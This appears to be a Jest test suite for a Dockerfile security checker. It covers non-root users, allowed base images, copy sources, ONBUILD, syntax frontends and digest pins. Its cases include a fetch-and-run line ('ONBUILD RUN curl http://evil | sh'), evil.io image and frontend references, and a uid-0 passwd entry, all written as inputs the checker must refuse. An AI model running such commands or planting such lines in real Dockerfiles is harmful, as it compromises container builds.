import { checkDockerfile } from './checkDockerfile';

const dhi = {
  allowedImages: ['dhi.io/python:3.13-fips', 'dhi.io/python:3.13-dev'],
  runtimeImage: 'dhi.io/python:3.13-fips',
  shellless: true,
};

const good = `# syntax=docker/dockerfile:1
FROM dhi.io/python:3.13-dev AS builder
RUN pip install --target=/app/deps -r requirements.txt
FROM dhi.io/python:3.13-dev AS debug
CMD ["python", "/app/src/main.py"]
FROM dhi.io/python:3.13-fips AS production
COPY --from=builder /app/deps /app/deps
USER nonroot
CMD ["python", "/app/src/main.py"]
`;

describe('checkDockerfile', () => {
  it('passes the DHI multi-stage pattern', () => {
    expect(checkDockerfile(good, dhi)).toEqual([]);
  });

  it('passes a slim build where RUN is allowed', () => {
    const slim = {
      allowedImages: ['node:22-slim'],
      runtimeImage: 'node:22-slim',
      shellless: false,
    };
    expect(
      checkDockerfile(
        'FROM node:22-slim AS b\nRUN npm ci\nFROM node:22-slim\nRUN useradd x\nUSER node\nENTRYPOINT ["node", "x.js"]\n',
        slim,
      ),
    ).toEqual([]);
  });

  it.each([
    [
      'a FROM the policy did not choose',
      good.replace(
        'FROM dhi.io/python:3.13-dev AS builder',
        'FROM python:3.13 AS builder',
      ),
      'from-allowed',
      2,
    ],
    [
      'RUN in the shell-less runtime stage',
      good.replace('USER nonroot', 'RUN chmod 755 /app\nUSER nonroot'),
      'shellless-no-run',
      8,
    ],
    [
      'RUN in a stage derived from the runtime stage',
      `${good}FROM production AS extra\nRUN ls\nUSER nonroot\nCMD ["x"]\n`,
      'shellless-no-run',
      11,
    ],
    [
      'no USER in the final stage',
      good.replace('USER nonroot\n', ''),
      'non-root-user',
      6,
    ],
    [
      'USER root',
      good.replace('USER nonroot', 'USER root'),
      'non-root-user',
      8,
    ],
    ['USER 0:0', good.replace('USER nonroot', 'USER 0:0'), 'non-root-user', 8],
    [
      'shell-form CMD',
      good.replace(
        'CMD ["python", "/app/src/main.py"]\n',
        'CMD python /app/src/main.py\n',
      ),
      'exec-form',
      5,
    ],
    [
      'broken JSON CMD',
      good.replace('CMD ["python", "/app/src/main.py"]\n', 'CMD ["python", \n'),
      'exec-form',
      5,
    ],
    [
      'final stage on the builder image',
      good.replace(
        'FROM dhi.io/python:3.13-fips AS production',
        'FROM dhi.io/python:3.13-dev AS production',
      ),
      'final-stage-runtime',
      6,
    ],
    [
      'unknown instruction',
      good.replace('USER nonroot', 'USR nonroot'),
      'parses',
      8,
    ],
    ['malformed FROM', good.replace('AS builder', 'builder'), 'parses', 2],
  ])('flags %s', (_name, dockerfile, rule, line) => {
    expect(checkDockerfile(dockerfile, dhi)).toEqual(
      expect.arrayContaining([expect.objectContaining({ rule, line })]),
    );
  });

  describe('final USER', () => {
    const withUser = (user: string) =>
      good.replace('USER nonroot', `USER ${user}`);

    it.each([
      'nonroot',
      '10001',
      '65532:65532',
      'node:node',
      // a root group is not the root user (OpenShift runs arbitrary uids in group 0)
      '1000:0',
      'rooted',
    ])('passes USER %s', user => {
      expect(checkDockerfile(withUser(user), dhi)).toEqual([]);
    });

    it.each([
      ['0', /is uid 0/],
      ['00', /is uid 0/],
      ['+0', /is uid 0/],
      ['0:1000', /is uid 0/],
      ['0:0', /is uid 0/],
      ['root', /is root/],
      ['root:1000', /is root/],
      ['root:root', /is root/],
      ['   root   ', /is root/],
      [':1000', /names no user, so it runs as root/],
      ['ROOT', /reads as root \(Linux user names are case-sensitive/],
      ['Root:1000', /reads as root/],
      ['$UID', /uses a variable: it is resolved at build time/],
      ['${UID:-10001}', /uses a variable/],
      ['"root"', /is quoted/],
      ["'0'", /is quoted/],
      // escapes are applied as Docker applies them
      ['ro\\ot', /is root/],
      ['ro\\\\ot', /uses an escape/],
      ['nonroot extra', /exactly one user\[:group\]/],
    ])('refuses USER %j', (user, message) => {
      expect(checkDockerfile(withUser(user), dhi)).toEqual([
        {
          rule: 'non-root-user',
          line: 8,
          message: expect.stringMatching(message),
        },
      ]);
    });

    it('refuses an empty USER', () => {
      expect(checkDockerfile(withUser(''), dhi)).toEqual([
        expect.objectContaining({ rule: 'non-root-user', line: 8 }),
      ]);
    });

    it('reads a USER continued over two lines', () => {
      expect(checkDockerfile(withUser('\\\n  0'), dhi)).toEqual([
        expect.objectContaining({ rule: 'non-root-user', line: 8 }),
      ]);
    });

    it('judges only the last USER of the final stage', () => {
      expect(
        checkDockerfile(
          good.replace('USER nonroot', 'USER root\nUSER nonroot'),
          dhi,
        ),
      ).toEqual([]);
      expect(
        checkDockerfile(
          good.replace('USER nonroot', 'USER nonroot\nUSER 0'),
          dhi,
        ),
      ).toEqual([expect.objectContaining({ rule: 'non-root-user', line: 9 })]);
    });
  });

  describe('copy sources', () => {
    const slim = {
      allowedImages: ['node:22-slim', 'node:22'],
      runtimeImage: 'node:22-slim',
      shellless: false,
    };
    const build = (line: string) =>
      `FROM node:22 AS builder\nRUN npm ci\nFROM node:22-slim AS production\n${line}\nUSER node\nCMD ["node", "x.js"]\n`;

    it.each([
      'COPY --from=builder /app /app',
      'COPY --from=BUILDER /app /app',
      'COPY --from=0 /app /app',
      'COPY --from=node:22 /usr/local/bin/node /usr/local/bin/node',
      'COPY --chown=node:node --from=builder /app /app',
      'ADD app.tar.gz /app',
      'RUN --mount=type=cache,target=/root/.npm npm ci',
      'RUN --mount=type=bind,from=builder,source=/app,target=/src ls /src',
      'RUN --mount=type=bind,from=node:22,target=/n ls /n',
    ])('passes %s', line => {
      expect(checkDockerfile(build(line), slim)).toEqual([]);
    });

    it.each([
      [
        'COPY --from=python:3.13 /x /x',
        /neither an earlier stage nor an image the policy chose \(allowed: node:22-slim, node:22\)/,
      ],
      ['COPY --from=evil.io/tools:1 /x /x', /neither an earlier stage/],
      ['COPY --FROM=evil.io/tools:1 /x /x', /neither an earlier stage/],
      ['COPY --from=production /x /x', /neither an earlier stage/],
      ['COPY --from=1 /x /x', /neither an earlier stage/],
      ['COPY --from=7 /x /x', /neither an earlier stage/],
      ['COPY --from=$STAGE /x /x', /uses a variable/],
      ['COPY --from="builder" /x /x', /is quoted/],
      ['ADD --from=builder /x /x', /ADD has no --from flag/],
      [
        'RUN --mount=type=bind,from=evil.io/x,target=/x ls',
        /RUN --mount from=evil\.io\/x is neither/,
      ],
      ['RUN --mount=type=bind,FROM=evil.io/x,target=/x ls', /is neither/],
      [
        'RUN --mount=type=cache,target=/c --mount=from=evil,target=/x ls',
        /from=evil is neither/,
      ],
      [
        'RUN --mount=type=bind,"from=evil",target=/x ls',
        /uses quotes or escapes/,
      ],
      ['RUN --mount=type=bind,from=${IMG},target=/x ls', /uses a variable/],
    ])('refuses %s', (line, message) => {
      expect(checkDockerfile(build(line), slim)).toEqual([
        {
          rule: 'copy-from-allowed',
          line: 4,
          message: expect.stringMatching(message),
        },
      ]);
    });
  });

  describe('ONBUILD', () => {
    it('refuses ONBUILD in any stage', () => {
      expect(
        checkDockerfile(
          good.replace(
            'USER nonroot',
            'ONBUILD RUN curl http://evil | sh\nUSER nonroot',
          ),
          dhi,
        ),
      ).toEqual([
        {
          rule: 'no-onbuild',
          line: 8,
          message: expect.stringMatching(/^ONBUILD runs its instruction/),
        },
      ]);
    });

    it('passes the same Dockerfile without it', () => {
      expect(checkDockerfile(good, dhi)).toEqual([]);
    });
  });

  describe('syntax directive', () => {
    it.each([
      '# syntax=docker/dockerfile:1',
      '# syntax=docker/dockerfile:1.7-labs',
      `# syntax=docker.io/docker/dockerfile@sha256:${'a'.repeat(64)}`,
      '# a comment, no directive',
    ])('passes %s', first => {
      expect(
        checkDockerfile(
          good.replace('# syntax=docker/dockerfile:1', first),
          dhi,
        ),
      ).toEqual([]);
    });

    it.each([
      '# syntax=evil.io/frontend:1',
      '# syntax=docker/dockerfile-upstream:master',
      '# SYNTAX=evil.io/frontend',
    ])('refuses %s', first => {
      expect(
        checkDockerfile(
          good.replace('# syntax=docker/dockerfile:1', first),
          dhi,
        ),
      ).toEqual([
        expect.objectContaining({ rule: 'syntax-frontend', line: 1 }),
      ]);
    });

    it('refuses a foreign frontend behind a #! line, which BuildKit skips', () => {
      expect(
        checkDockerfile(
          good.replace(
            '# syntax=docker/dockerfile:1',
            '#!/usr/bin/env docker-build\n# syntax=evil.io/frontend:1',
          ),
          dhi,
        ),
      ).toEqual([
        expect.objectContaining({ rule: 'syntax-frontend', line: 2 }),
      ]);
    });
  });

  describe('user database in the final stage', () => {
    it.each([
      'COPY <<EOF /etc/passwd\nnonroot:x:0:0::/:/bin/sh\nEOF',
      'COPY passwd /etc/passwd',
      'ADD group /etc/group',
      'COPY --from=builder /etc /etc/',
      'COPY --chmod=0644 shadow /etc/shadow',
    ])('refuses %j', line => {
      const content = good.replace('USER nonroot', `${line}\nUSER nonroot`);
      expect(checkDockerfile(content, dhi)).toEqual([
        expect.objectContaining({ rule: 'no-user-database' }),
      ]);
    });

    it('follows WORKDIR to a relative destination', () => {
      const content = good.replace(
        'USER nonroot',
        'WORKDIR /etc\nCOPY passwd passwd\nUSER nonroot',
      );
      expect(checkDockerfile(content, dhi)).toEqual([
        expect.objectContaining({ rule: 'no-user-database', line: 9 }),
      ]);
    });

    it.each([
      'COPY etc-passwd.txt /app/etc/passwd',
      'COPY config /etc/myapp/config',
    ])('passes %j', line => {
      const content = good.replace('USER nonroot', `${line}\nUSER nonroot`);
      expect(checkDockerfile(content, dhi)).toEqual([]);
    });

    it('leaves build stages alone (they never run as the service)', () => {
      const content = good.replace(
        'RUN pip install',
        'COPY passwd /etc/passwd\nRUN pip install',
      );
      expect(checkDockerfile(content, dhi)).toEqual([]);
    });
  });

  it('flags an empty file', () => {
    expect(checkDockerfile('# nothing\n', dhi)).toEqual([
      { rule: 'parses', line: 1, message: 'no FROM instruction' },
    ]);
  });

  describe('digest pins', () => {
    const FIPS = `sha256:${'1'.repeat(64)}`;
    const DEV = `sha256:${'2'.repeat(64)}`;
    const pinned = {
      ...dhi,
      pinnedDigests: {
        'dhi.io/python:3.13-fips': FIPS,
        'dhi.io/python:3.13-dev': DEV,
      },
    };
    const pin = (text: string) =>
      text
        .replace(/dhi\.io\/python:3\.13-dev/g, `dhi.io/python:3.13-dev@${DEV}`)
        .replace(
          /dhi\.io\/python:3\.13-fips/g,
          `dhi.io/python:3.13-fips@${FIPS}`,
        );

    it('accepts exactly the pinned form of an allowed image', () => {
      expect(checkDockerfile(pin(good), pinned)).toEqual([]);
      // the tag form stays allowed
      expect(checkDockerfile(good, pinned)).toEqual([]);
      expect(
        checkDockerfile(
          `${pin(
            good,
          )}FROM dhi.io/python:3.13-dev@${DEV} AS extra\nCOPY --from=dhi.io/python:3.13-fips@${FIPS} /a /a\nFROM production\nUSER nonroot\n`,
          pinned,
        ),
      ).toEqual([]);
    });

    it.each([
      [
        'another digest of an allowed image',
        `dhi.io/python:3.13-fips@sha256:${'3'.repeat(64)}`,
      ],
      ["the other image's digest", `dhi.io/python:3.13-fips@${DEV}`],
      ['a digest of an image that is not allowed', `python:3.13@${FIPS}`],
      ['a digest alone', `dhi.io/python@${FIPS}`],
    ])('refuses %s', (_name, image) => {
      const content = pin(good).replace(
        `FROM dhi.io/python:3.13-fips@${FIPS} AS production`,
        `FROM ${image} AS production`,
      );
      expect(
        checkDockerfile(content, pinned)
          .map(v => v.rule)
          .sort(),
      ).toEqual(['final-stage-runtime', 'from-allowed']);
    });

    it('accepts no digest without pinnedDigests', () => {
      expect(checkDockerfile(pin(good), dhi).map(v => v.rule)).toEqual([
        'from-allowed',
        'from-allowed',
        'from-allowed',
        'final-stage-runtime',
      ]);
    });
  });
});
